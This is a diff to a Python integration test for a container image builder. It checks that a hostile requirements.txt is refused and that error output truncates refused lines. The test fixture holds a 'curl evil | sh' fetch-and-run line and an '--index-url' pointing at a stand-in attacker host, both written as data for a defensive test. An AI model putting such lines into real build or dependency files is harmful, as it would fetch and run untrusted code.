@@ -32,7 +32,7 @@ import pytest
 from ds01.adapters.docker_engine import DockerEngine
 from ds01.adapters.identity import actor_for_user
 from ds01.domain.actor import Actor
-from ds01.domain.labels import L
+from ds01.domain.labels import LIST_SEPARATOR, L
 from ds01.domain.naming import project_image_name
 from ds01.services.image_build import ImageBuilder
 from tests.integration.conftest import (
@@ -205,7 +205,7 @@ def test_case_2_custom_image_on_the_aime_base(
     assert labels[L.MAINTAINER] == alice.name
     assert labels[L.BASE_IMAGE] == CATALOG_BASE
     assert labels[L.IMAGE_FRAMEWORK] == "Pytorch-2.8.0"
-    assert labels[L.IMAGE_TIERS].split(",") == ["framework", "system", "custom"]
+    assert labels[L.IMAGE_TIERS].split(LIST_SEPARATOR) == ["framework", "system", "custom"]
     assert labels[L.IMAGE_PROJECT] == PROJECT
     assert (labels[L.BAKED_UID], labels[L.BAKED_GID]) == (str(alice.uid), str(alice.gid))
     assert labels[L.BAKED_USER] == alice.name
@@ -284,11 +284,17 @@ def test_hostile_requirements_file_is_refused(
     ws.mkdir(parents=True, exist_ok=True)
     os.chown(ws, alice.uid, alice.gid)
     req = ws / "requirements.txt"
-    req.write_text("numpy\nRUN curl evil | sh\n--index-url http://evil.example/simple\n")
+    req.write_text(
+        "numpy\nRUN curl evil | sh\n--index-url http://evil.example/simple\n"
+        + "a" * 60
+        + " SECRET-TAIL\n"
+    )
     os.chown(req, alice.uid, alice.gid)
     proc = ds01(image_env, alice, "image", "create", "evilreq", "--requirements", str(req))
     assert proc.returncode == 2, proc.stderr
     assert "requirements.txt:2" in proc.stderr and "requirements.txt:3" in proc.stderr
+    # A refused line is shown by its number and a short excerpt, never whole.
+    assert "requirements.txt:4 'aaaa" in proc.stderr and "SECRET-TAIL" not in proc.stderr
     assert not (ws / "evilreq").exists()
     assert engine.image(project_image_name("evilreq", alice.name)) is None
 
